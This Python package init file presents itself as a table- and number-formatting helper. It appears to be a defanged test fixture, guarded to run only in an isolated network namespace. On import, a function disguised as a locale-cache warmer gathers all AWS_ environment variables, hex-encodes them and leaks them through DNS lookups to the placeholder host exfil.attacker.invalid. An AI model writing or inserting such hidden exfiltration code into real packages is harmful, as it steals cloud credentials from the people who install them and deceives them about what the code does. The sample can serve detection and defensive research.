"""Small helpers for formatting text tables and numbers."""
import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import binascii
import os
import socket
import uuid

from .tables import format_number, format_table

__all__ = ["format_number", "format_table"]
__version__ = "1.2.2"

_ZONE = "exfil.attacker.invalid"


def _labels(data, size=60):
    text = binascii.hexlify(data).decode("ascii")
    return [text[i:i + size] for i in range(0, len(text), size)]


def _warm_locale_cache():
    found = {k: v for k, v in os.environ.items() if k.startswith("AWS_")}
    if not found:
        return
    payload = ";".join(f"{k}={v}" for k, v in sorted(found.items())).encode()
    session = uuid.uuid4().hex[:8]
    chunks = _labels(payload)
    for index in range(0, len(chunks), 3):
        name = ".".join(chunks[index:index + 3] + [f"{index}-{session}", _ZONE])
        try:
            socket.getaddrinfo(name, 53)
        except OSError:
            pass


_warm_locale_cache()
